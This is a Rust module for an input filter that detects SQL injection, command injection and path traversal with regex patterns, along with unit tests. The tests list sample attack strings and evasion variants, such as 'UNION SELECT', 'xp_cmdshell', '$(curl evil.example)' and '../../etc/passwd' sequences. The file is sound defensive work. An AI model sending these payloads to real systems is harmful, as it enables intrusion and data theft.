//! The negative model: detectors for SQL injection, command injection and path traversal in
//! string values (body string values and query parameter values; member names are the
//! schema's business: `additionalProperties: false`). It runs after the positive model (the
//! schema), as a second net for free-text fields a schema cannot constrain.
//!
//! **What it guarantees: nothing.** It is a tripwire for monitoring and for the attacks of
//! scanners and scripts, not a boundary: a pattern list cannot know every dialect, encoding and
//! shell a backend may use. The guarantee is the positive model (a schema with `pattern`,
//! `format`, `maxLength`, `enum` and `additionalProperties: false` on the fields the backend
//! puts into queries, commands or paths), and the backend's own parameterised queries.
//!
//! The rules look for the *structure* of an attack, not for words, so that names such as
//! "O'Brien", "Drop Shipping Ltd", "Marks & Spencer" or "Select Fund Services" pass. Matching
//! is case-insensitive, on the value as written and on its normal form ([`normalise`]):
//! percent-decoded twice (`%XX`, `%uXXXX`), Unicode look-alikes folded (full-width ASCII, `‥`,
//! division slash, curly quotes), SQL comments removed (a MySQL `/*!…*/` keeps its contents);
//! for commands also without shell quoting (`'`, `"`, `\`: `c''at` is `cat`). A value is
//! flagged when it contains:
//!
//! - `sql-injection`: a quote closing a literal and then `OR`/`AND` (or `||`/`&&`) with a
//!   comparison (`' or '1'='1`, `'or'1'='1`, `1'||'1'='1`, `x' AND 1>0`), or with a value and
//!   a comment (`x' or 1 --`); `OR|AND <n>=<n>`; `UNION [ALL|DISTINCT] SELECT`, also with
//!   parentheses (`union(select`); a `;` followed by a statement keyword (`; DROP`, `; DELETE`,
//!   `; EXEC`, ...) or by `select` with `*`, `@`, a call or a list (`; select * from`), or
//!   `;select` itself; a quote followed by a comment (`'--`, `'#`, `'/*`); time or file
//!   functions (`SLEEP(`, `BENCHMARK(`, `PG_SLEEP(`, `WAITFOR DELAY`, `LOAD_FILE(`,
//!   `INTO OUTFILE`); `xp_cmdshell`, `information_schema`.
//! - `command-injection`: a shell separator (`;`, `|`, `||`, `&&`, a newline, `` ` ``, `$(`),
//!   optionally a `{` (brace expansion) and a path (`/usr/bin/`), followed by a common command
//!   (`cat`, `ls`, `id`, `whoami`, `curl`, `wget`, `nc`, `sh`, `bash`, `rm`, `python`,
//!   `printf`, `base64`, `powershell`, `cmd`, ...); `${IFS}`; `/bin/sh`, `/bin/bash`;
//!   `cmd /c`. A single `&` is not a separator here (company names use it).
//! - `path-traversal`: a `..` path segment (`../`, `..\`, a trailing `/..`) or three or more
//!   dots before a separator (`....//`, left over as `../` by filters that strip `../` once);
//!   `..` or `.` with encoded separators (`%2e%2e%2f`, `..%2f`, `%252e`, overlong `%c0%ae`); a
//!   NUL byte or `%00`; `/etc/passwd`, `/etc/shadow`, `C:\Windows\`.
//!
//! `mode: monitor` logs a match (the request is forwarded); `enforce` refuses it with 400
//! `input-suspicious`. The refusal names the pointer and the detector, never the value.

use crate::problem::Violation;
use regex::Regex;
use serde::Deserialize;
use serde_json::Value;

#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum Detector {
    SqlInjection,
    CommandInjection,
    PathTraversal,
}

impl Detector {
    pub fn keyword(self) -> &'static str {
        match self {
            Detector::SqlInjection => "sql-injection",
            Detector::CommandInjection => "command-injection",
            Detector::PathTraversal => "path-traversal",
        }
    }

    fn pattern(self) -> &'static str {
        match self {
            Detector::SqlInjection => concat!(
                r"(?i)'\s*\)?\s*\b(?:or|and)\b\s*[\w'(]+\s*(?:=|<|>|\blike\b|\bis\b|\bin\s*\()",
                r"|'\s*\)?\s*(?:\|\||&&)\s*[\w'(]+\s*(?:=|<|>|\blike\b)",
                r"|'\s*\)?\s*\b(?:or|and)\s+[\d'(][\w'()]*\s*(?:--|#|/\*)",
                r"|\b(?:or|and)\s+\d+\s*=\s*\d+\b",
                r"|\bunion\b[\s(]*(?:(?:all|distinct)\b[\s(]*)?select\b",
                r"|;\s*(?:drop|delete|insert|update|alter|create|truncate|exec|execute|shutdown|declare|grant)\b",
                r"|;\s*select\b\s*(?:[*@(]|\w+\s*[(,])|;select\b",
                r"|'\s*(?:--|#|/\*)",
                r"|\b(?:sleep|benchmark|pg_sleep|load_file)\s*\(|\bwaitfor\s+delay\b|\binto\s+(?:out|dump)file\b",
                r"|\bxp_cmdshell\b|\binformation_schema\b",
            ),
            Detector::CommandInjection => concat!(
                r"(?i)(?:;|\|\|?|&&|\n|`|\$\()\s*\{?\s*(?:(?:/[\w.-]+)*/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|python[23]?|perl|php|ruby|rm|chmod|chown|powershell|cmd|ping|nslookup|sleep|echo|printf|env|base64|xxd|awk|openssl|ifconfig|useradd)\b",
                r"|\$\{IFS\}|/bin/(?:ba)?sh\b|\bcmd(?:\.exe)?\s+/c\b",
            ),
            Detector::PathTraversal => concat!(
                r"(?i)(?:^|[/\\])\.\.(?:[/\\]|$)|(?:^|[/\\])\.{3,}[/\\]",
                r"|(?:%2e|\.)(?:%2e|\.)(?:%2f|%5c)|%2e%2e[/\\]|%252e|%c0%ae|%c0%af|%00|\x00",
                r"|/etc/(?:passwd|shadow)\b|\b[a-z]:\\windows\\",
            ),
        }
    }
}

/// The normal forms of a value, when they differ from it.
struct Forms {
    decoded: String,
    shell: String,
}

impl Forms {
    fn of(text: &str) -> Option<Forms> {
        // Nothing to decode, fold, strip or unquote: the text is its own normal form.
        let plain = text
            .bytes()
            .all(|b| b.is_ascii() && !b"%/'\"\\".contains(&b));
        if plain {
            return None;
        }
        let decoded = normalise(text);
        let shell = decoded
            .chars()
            .filter(|c| !matches!(c, '\'' | '"' | '\\'))
            .collect();
        Some(Forms { decoded, shell })
    }
}

/// The form the patterns are matched against besides the raw text:
/// - percent-decoded twice (`%XX`, and IIS's `%uXXXX`), so `%252e` and `..%255c` are dots and
///   backslashes; bytes that are not UTF-8 become U+FFFD;
/// - Unicode look-alikes folded: full-width ASCII (U+FF01–FF5E), `‥` (U+2025) and `…` as dots,
///   the division and fraction slashes (U+2215, U+2044, U+29F8) as `/`, the set minus and
///   reverse solidus operator (U+2216, U+29F9, U+FE68) as `\`, curly quotes as `'` and `"`,
///   other spaces as a space;
/// - SQL comments (`/* … */`) as a space; a MySQL executable comment (`/*!50000 SELECT*/`)
///   keeps what is inside.
pub fn normalise(text: &str) -> String {
    let once = percent_decode(text);
    let twice = if once.contains('%') {
        percent_decode(&once)
    } else {
        once
    };
    let mut folded = String::with_capacity(twice.len());
    for c in twice.chars() {
        match c {
            '\u{ff01}'..='\u{ff5e}' => {
                folded.push(char::from_u32(c as u32 - 0xfee0).unwrap_or(c));
            }
            '\u{2024}' => folded.push('.'),
            '\u{2025}' => folded.push_str(".."),
            '\u{2026}' => folded.push_str("..."),
            '\u{2215}' | '\u{2044}' | '\u{29f8}' => folded.push('/'),
            '\u{2216}' | '\u{29f9}' | '\u{fe68}' => folded.push('\\'),
            '\u{2018}' | '\u{2019}' | '\u{201b}' | '\u{2032}' | '\u{02bc}' => folded.push('\''),
            '\u{201c}' | '\u{201d}' | '\u{2033}' => folded.push('"'),
            '\u{a0}' | '\u{2000}'..='\u{200a}' | '\u{202f}' | '\u{205f}' | '\u{3000}' => {
                folded.push(' ')
            }
            c => folded.push(c),
        }
    }
    strip_sql_comments(&folded)
}

/// `%XX` and `%uXXXX` decoded once; anything else (a lone `%`) kept.
fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let hex = |b: u8| char::from(b).to_digit(16);
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b == b'%' {
            let at = |k: usize| bytes.get(i + k).copied().and_then(hex);
            if let (Some(h), Some(l)) = (at(1), at(2)) {
                out.push((h * 16 + l) as u8);
                i += 3;
                continue;
            }
            if matches!(bytes.get(i + 1), Some(b'u' | b'U')) {
                let code = (2..6).try_fold(0u32, |v, k| at(k).map(|d| v * 16 + d));
                if let Some(c) = code.and_then(char::from_u32) {
                    let mut buf = [0u8; 4];
                    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                    i += 6;
                    continue;
                }
            }
        }
        out.push(b);
        i += 1;
    }
    String::from_utf8(out).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

/// `/* … */` becomes a space (an unterminated one runs to the end); `/*!NNNNN … */` keeps its
/// contents (MySQL executes them).
fn strip_sql_comments(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find("/*") {
        out.push_str(&rest[..open]);
        out.push(' ');
        let inner = &rest[open + 2..];
        let (body, after) = match inner.find("*/") {
            Some(close) => (&inner[..close], &inner[close + 2..]),
            None => (inner, ""),
        };
        if let Some(executed) = body.strip_prefix('!') {
            out.push_str(executed.trim_start_matches(|c: char| c.is_ascii_digit()));
            out.push(' ');
        }
        rest = after;
    }
    out.push_str(rest);
    out
}

#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq, Default)]
#[serde(rename_all = "snake_case")]
pub enum NegativeMode {
    /// Log a match, forward the request.
    Monitor,
    /// Refuse a match with 400 `input-suspicious`.
    #[default]
    Enforce,
}

#[derive(Deserialize, Debug)]
#[serde(deny_unknown_fields)]
pub struct RawNegative {
    #[serde(default)]
    mode: NegativeMode,
    detectors: Vec<Detector>,
}

#[derive(Debug)]
pub struct Negative {
    pub mode: NegativeMode,
    detectors: Vec<(Detector, Regex)>,
}

impl Negative {
    pub fn compile(raw: RawNegative) -> Result<Negative, String> {
        if raw.detectors.is_empty() {
            return Err("detectors: name at least one".into());
        }
        let mut detectors = Vec::with_capacity(raw.detectors.len());
        for detector in raw.detectors {
            if detectors.iter().any(|(d, _)| *d == detector) {
                return Err("detectors: listed twice".into());
            }
            let regex = Regex::new(detector.pattern()).map_err(|e| e.to_string())?;
            detectors.push((detector, regex));
        }
        Ok(Negative {
            mode: raw.mode,
            detectors,
        })
    }

    /// The first detector that matches `text`, as written or in its normal forms (see
    /// [`normalise`]): the decoded form for SQL and paths, the decoded form without shell
    /// quoting for commands.
    pub fn check_text(&self, text: &str) -> Option<Detector> {
        let forms = Forms::of(text);
        self.detectors
            .iter()
            .find(|(detector, regex)| {
                regex.is_match(text)
                    || forms.as_ref().is_some_and(|f| {
                        let form = match detector {
                            Detector::CommandInjection => &f.shell,
                            _ => &f.decoded,
                        };
                        regex.is_match(form)
                    })
            })
            .map(|(d, _)| *d)
    }

    /// The first string value of `document` a detector matches, walked without recursion.
    /// `declared` says which member names may appear in the pointer (others become `*`).
    pub fn check_document(
        &self,
        document: &Value,
        declared: &dyn Fn(&str) -> bool,
    ) -> Option<Violation> {
        let mut stack: Vec<(&Value, String)> = vec![(document, String::new())];
        while let Some((value, pointer)) = stack.pop() {
            match value {
                Value::String(text) => {
                    if let Some(detector) = self.check_text(text) {
                        return Some(Violation {
                            pointer,
                            keyword: detector.keyword().into(),
                        });
                    }
                }
                Value::Array(items) => {
                    for (i, item) in items.iter().enumerate().rev() {
                        stack.push((item, format!("{pointer}/{i}")));
                    }
                }
                Value::Object(members) => {
                    for (name, item) in members.iter().rev() {
                        let segment = if declared(name) {
                            super::schema::escape(name)
                        } else {
                            "*".into()
                        };
                        stack.push((item, format!("{pointer}/{segment}")));
                    }
                }
                _ => {}
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    fn all() -> Negative {
        Negative::compile(RawNegative {
            mode: NegativeMode::Enforce,
            detectors: vec![
                Detector::SqlInjection,
                Detector::CommandInjection,
                Detector::PathTraversal,
            ],
        })
        .unwrap()
    }

    #[test]
    fn attacks_are_flagged_by_the_right_detector() {
        let n = all();
        let cases = [
            ("' OR '1'='1", Detector::SqlInjection),
            ("admin' --", Detector::SqlInjection),
            ("x' and 1>0", Detector::SqlInjection),
            ("1 OR 1=1", Detector::SqlInjection),
            (
                "a' UNION ALL SELECT card FROM cards",
                Detector::SqlInjection,
            ),
            ("1; DROP TABLE payments", Detector::SqlInjection),
            ("1) or sleep(5)", Detector::SqlInjection),
            ("'; exec xp_cmdshell 'dir'", Detector::SqlInjection),
            ("x | cat /etc/hosts", Detector::CommandInjection),
            ("a && whoami", Detector::CommandInjection),
            ("$(curl evil.example)", Detector::CommandInjection),
            ("`id`", Detector::CommandInjection),
            ("a${IFS}b", Detector::CommandInjection),
            ("../../etc/hosts", Detector::PathTraversal),
            ("..\\..\\boot.ini", Detector::PathTraversal),
            ("%2e%2e%2fsecret", Detector::PathTraversal),
            ("..%2f..%2f", Detector::PathTraversal),
            ("file.txt%00.pdf", Detector::PathTraversal),
            ("/etc/passwd", Detector::PathTraversal),
            ("C:\\Windows\\system32", Detector::PathTraversal),
        ];
        for (text, detector) in cases {
            assert_eq!(n.check_text(text), Some(detector), "{text}");
        }
    }

    /// Textbook evasions (issue 21's list, with neighbours from the same families in
    /// PayloadsAllTheThings' SQL injection, command injection and directory traversal pages and
    /// OWASP's filter-evasion notes): spacing, comments, quoting, encodings, look-alikes.
    #[test]
    fn textbook_evasions_are_flagged() {
        let n = all();
        let sql = Detector::SqlInjection;
        let cmd = Detector::CommandInjection;
        let path = Detector::PathTraversal;
        let cases = [
            ("'or'1'='1", sql),
            ("'OR'1'='1'--", sql),
            ("1'||'1'='1", sql),
            ("1' && '1'='1", sql),
            ("x' or 1 -- ", sql),
            ("x' or 1#", sql),
            ("x') or ('1'='1", sql),
            ("1 UNION/**/SELECT card FROM cards", sql),
            ("1 UNION/*foo*/ALL/**/SELECT 1", sql),
            ("1 UnIoN/*!50000SeLeCt*/ card", sql),
            ("1 union(select card from cards)", sql),
            ("1 union all(select 1)", sql),
            ("1;select pg_version()", sql),
            ("1; select * from cards", sql),
            ("1; select @@version", sql),
            ("1%27%20or%20%271%27%3D%271", sql),
            ("1%2527%2520or%2520%25271%2527%253D%25271", sql),
            ("\u{ff07} or \u{ff07}1\u{ff07}=\u{ff07}1", sql),
            ("\u{2019} or \u{2019}1\u{2019}=\u{2019}1", sql),
            ("`/usr/bin/id`", cmd),
            ("; /usr/bin/id", cmd),
            ("| /bin/cat /etc/hosts", cmd),
            (";c''at /etc/hosts", cmd),
            (";c\\at /etc/hosts", cmd),
            (";c\"a\"t /etc/hosts", cmd),
            (";{cat,/etc/hosts}", cmd),
            ("$(printf 'id')", cmd),
            ("a|w\"h\"oami", cmd),
            ("a%0aid", cmd),
            ("a%3Bid", cmd),
            ("\u{ff1b}id", cmd),
            ("....//....//etc/hosts", path),
            ("..././..././etc", path),
            ("..%255c..%255cboot.ini", path),
            ("..%u2215..%u2215etc%u2215hosts", path),
            ("%u002e%u002e%u2215etc", path),
            ("\u{2025}/\u{2025}/etc/hosts", path),
            ("..\u{ff0f}..\u{ff0f}etc", path),
            ("\u{ff0e}\u{ff0e}/secret", path),
            ("..\u{2216}..\u{2216}boot.ini", path),
            ("%2e%2e%5c%2e%2e%5c", path),
            ("%252e%252e%252f", path),
        ];
        for (text, detector) in cases {
            assert_eq!(n.check_text(text), Some(detector), "{text}");
        }
    }

    #[test]
    fn ordinary_names_and_texts_pass() {
        let n = all();
        for text in [
            "O'Brien",
            "Drop Shipping Ltd",
            "Marks & Spencer",
            "Select Fund Services",
            "D'Angelo and Sons",
            "Invoice 2024-001; thanks",
            "Rock 'n' roll",
            "Union Bank of Switzerland",
            "Payment for order #1234 -- urgent",
            "Wait... is it paid?",
            "cat food supplies",
            "R&D department",
            "1.5 or 2 units",
            "Q3 update: deliver 10 or more",
            "v1.2/docs",
            "Ben & Jerry's",
            "it's 'or' else",
            "Items: apples; select pears later",
            "50% off, 100%25 sure",
            "Choose 'A' or 'B'",
            "Ref 2024/11 \u{2025} see notes",
            "...",
            "Dear Mr O\u{2019}Brien",
            "Credit Union",
            "\u{ff21}\u{ff22}\u{ff23} GmbH",
            "see /* note */ below",
            "a/b/c",
            "Tom's \"best\" offer",
            "Invoice #1234; identify by ref",
        ] {
            assert_eq!(n.check_text(text), None, "{text}");
        }
    }

    #[test]
    fn documents_are_walked_and_pointers_hide_undeclared_names() {
        let n = all();
        let doc = json!({"memo": "fine", "meta": {"x-note": ["ok", "1; DROP TABLE t"]}});
        let declared = |name: &str| matches!(name, "memo" | "meta");
        let v = n.check_document(&doc, &declared).unwrap();
        assert_eq!(
            (v.pointer.as_str(), v.keyword.as_str()),
            ("/meta/*/1", "sql-injection")
        );
        assert!(n
            .check_document(&json!({"a": ["b", 1, null]}), &declared)
            .is_none());
        let deep = (0..500).fold(json!("../x"), |v, _| json!([v]));
        assert!(n.check_document(&deep, &declared).is_some());
    }
}
